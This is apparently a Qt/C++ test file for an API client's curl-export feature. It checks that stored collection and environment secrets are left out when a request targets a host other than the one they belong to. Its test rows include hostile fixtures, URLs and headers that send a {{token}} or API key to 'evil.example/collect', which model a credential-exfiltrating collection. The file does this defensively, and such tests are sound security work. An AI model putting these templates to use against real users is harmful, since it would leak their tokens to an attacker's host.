// Request › Export request… with "Include secrets", attacked with a hostile file: a collection
// that copies the id and base URL of the victim's (so the keychain hands it the victim's token)
// but sends {{token}} to another host, and an environment whose secret is bound to its base URL
// used by a request to another host. The exported command must not carry a secret to an origin
// a send would refuse it for; to the origin it was stored for, it does.
#include "app/auth/CollectionSecrets.h"
#include "app/auth/EnvironmentSecrets.h"
#include "app/formats/CurlImporter.h"
#include "app/formats/ExportSource.h"
#include "app/formats/PostmanReader.h"
#include "app/secrets/MemorySecretStore.h"

#include <QJsonDocument>
#include <QTest>

using namespace Playground;

class TestExportSecrets : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void keychainSecretOnlyToItsOrigin_data();
    void keychainSecretOnlyToItsOrigin();
    void environmentSecretOnlyToItsOrigin_data();
    void environmentSecretOnlyToItsOrigin();
    void pastedCredentialsOnlyWhenAsked_data();
    void pastedCredentialsOnlyWhenAsked();
};

// After the class: moc misreads the raw string literal below.
namespace {

constexpr auto Token = "victim-token-7f3a9c";
constexpr auto EnvKey = "victim-env-key-51be20";

Collection collectionWith(const QString &url, const QString &header)
{
    const QByteArray json = QStringLiteral(R"({
  "info": {"_postman_id": "6a1c0f3e-1111-4222-8333-944445555666", "name": "Shop",
           "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
  "variable": [{"key": "baseUrl", "value": "https://api.shop.example"},
               {"key": "token", "value": "", "type": "secret"}],
  "item": [{"name": "Orders", "request": {"method": "GET", "url": "%1",
            "header": [{"key": "X-Trace", "value": "%2"}]}}]
})")
                                .arg(url, header)
                                .toUtf8();
    const Result<Collection> read
        = PostmanReader::readCollection(QJsonDocument::fromJson(json).object(), QString());
    return read ? read.value() : Collection {};
}

/** What the dialog does: the secrets the keychain holds for this file, then the command. */
QString exported(
    const Collection &collection, const Environment *env, SecretStore *store, QStringList *warnings)
{
    const QList<RequestPath> paths = flattenRequests(collection.items);
    if (paths.isEmpty())
        return {};
    const ExportSource source(&collection, paths.first(), env);
    std::optional<VariableList> secrets;
    QObject context;
    CollectionSecrets::load(store, source.collection(),
        CollectionSecrets::namesFor(source.collection(), { source.path() }), &context,
        [&](const VariableList &found, const QStringList &) { secrets = found; });
    if (!QTest::qWaitFor([&] { return secrets.has_value(); }, 5000))
        return {};
    const Result<QByteArray> curl = source.toCurl(true, *secrets, warnings);
    return curl ? QString::fromUtf8(curl.value()) : curl.error();
}

} // namespace

void TestExportSecrets::keychainSecretOnlyToItsOrigin_data()
{
    QTest::addColumn<QString>("url");
    QTest::addColumn<QString>("header");
    QTest::addColumn<bool>("carriesSecret");

    QTest::newRow("its own API") << "{{baseUrl}}/orders?t={{token}}"
                                 << "{{token}}" << true;
    QTest::newRow("query to another host") << "https://evil.example/collect?t={{token}}"
                                           << "none" << false;
    QTest::newRow("header to another host") << "https://evil.example/collect"
                                            << "{{token}}" << false;
}

void TestExportSecrets::keychainSecretOnlyToItsOrigin()
{
    QFETCH(QString, url);
    QFETCH(QString, header);
    QFETCH(bool, carriesSecret);
    // The victim stored the token for its collection (same id, same base URL).
    MemorySecretStore store;
    const Collection victim = collectionWith(QStringLiteral("{{baseUrl}}/me"), QString());
    const Result<QString> key = CollectionSecrets::keyFor(victim, QStringLiteral("token"));
    QVERIFY2(key, qPrintable(key.error()));
    bool written = false;
    store.write(key.value(), QString::fromLatin1(Token), &store,
        [&](const SecretResult &r) { written = r.persisted(); });
    QTRY_VERIFY(written);

    const Collection hostile = collectionWith(url, header);
    QCOMPARE(CollectionSecrets::keyFor(hostile, QStringLiteral("token")).value(), key.value());
    QStringList warnings;
    const QString curl = exported(hostile, nullptr, &store, &warnings);
    QVERIFY(!curl.isEmpty());
    QVERIFY2(curl.contains(QLatin1String(Token)) == carriesSecret, qPrintable(curl));
    if (!carriesSecret) {
        QVERIFY2(
            curl.contains(QLatin1String("<token>")) || curl.contains(QLatin1String("%3Ctoken%3E")),
            qPrintable(curl));
        QVERIFY2(warnings.join(QLatin1Char('\n')).contains(QLatin1String("left out")),
            qPrintable(warnings.join(QLatin1Char('\n'))));
    }
}

void TestExportSecrets::environmentSecretOnlyToItsOrigin_data()
{
    QTest::addColumn<QString>("url");
    QTest::addColumn<bool>("carriesSecret");

    QTest::newRow("its base URL") << "https://api.shop.example/orders" << true;
    QTest::newRow("another host") << "https://evil.example/collect" << false;
}

void TestExportSecrets::environmentSecretOnlyToItsOrigin()
{
    QFETCH(QString, url);
    QFETCH(bool, carriesSecret);
    Environment env;
    env.id = QStringLiteral("0b3c2d1e-aaaa-4bbb-8ccc-ddddeeeeffff");
    env.name = QStringLiteral("Production");
    env.values.append({ QStringLiteral("baseUrl"), QStringLiteral("https://api.shop.example"), true,
        {}, {}, {} });
    env.values.append({ QStringLiteral("apiKey"), QString::fromLatin1(EnvKey), true,
        QStringLiteral("secret"), {}, {} });
    QVERIFY(!EnvironmentSecrets::bindingOrigins(env).isEmpty());

    Collection collection = collectionWith(url, QStringLiteral("{{apiKey}}"));
    collection.postmanId = QStringLiteral("another-id");
    MemorySecretStore store;
    QStringList warnings;
    const QString curl = exported(collection, &env, &store, &warnings);
    QVERIFY(!curl.isEmpty());
    QVERIFY2(curl.contains(QLatin1String(EnvKey)) == carriesSecret, qPrintable(curl));
    if (!carriesSecret)
        QVERIFY2(curl.contains(QLatin1String("<apiKey>")), qPrintable(curl));
}

void TestExportSecrets::pastedCredentialsOnlyWhenAsked_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("secret");

    QTest::newRow("API key header")
        << "curl https://api.shop.example/v1 -H 'X-Api-Key: pasted-key-3141'"
        << "pasted-key-3141";
    QTest::newRow("access_token query")
        << "curl 'https://api.shop.example/v1?access_token=pasted-qt-2718'"
        << "pasted-qt-2718";
    QTest::newRow("Cookie header")
        << "curl https://api.shop.example/v1 -H 'Cookie: sid=pasted-sid-1618'"
        << "pasted-sid-1618";
    QTest::newRow("form field") << "curl https://api.shop.example/v1 -d 'password=pasted-pw-1414'"
                                << "pasted-pw-1414";
    QTest::newRow("JSON field")
        << "curl https://api.shop.example/v1 --json '{\"client_secret\": \"pasted-cs-1732\"}'"
        << "pasted-cs-1732";
}

void TestExportSecrets::pastedCredentialsOnlyWhenAsked()
{
    QFETCH(QString, command);
    QFETCH(QString, secret);
    // Pasted into the URL bar and exported from the tab, never saved.
    const Result<ImportedRequest> pasted = CurlImporter::parse(command);
    QVERIFY2(pasted, qPrintable(pasted.error()));
    CollectionItem item;
    item.name = QStringLiteral("Pasted");
    item.request = pasted->request;
    RequestPath path;
    path.item = &item;
    const ExportSource source(nullptr, path, nullptr);

    QStringList warnings;
    const Result<QByteArray> plain = source.toCurl(false, {}, &warnings);
    QVERIFY2(plain, qPrintable(plain.error()));
    QVERIFY2(!plain->contains(secret.toUtf8()), plain->constData());
    QVERIFY2(plain->contains('<') || plain->contains("%3C"), plain->constData());
    const QByteArray http = source.toHttp(&warnings);
    QVERIFY2(!http.contains(secret.toUtf8()), http.constData());
    const Result<QByteArray> withSecrets = source.toCurl(true, {}, &warnings);
    QVERIFY2(withSecrets, qPrintable(withSecrets.error()));
    QVERIFY2(withSecrets->contains(secret.toUtf8()), withSecrets->constData());
}

QTEST_GUILESS_MAIN(TestExportSecrets)
#include "TestExportSecrets.moc"
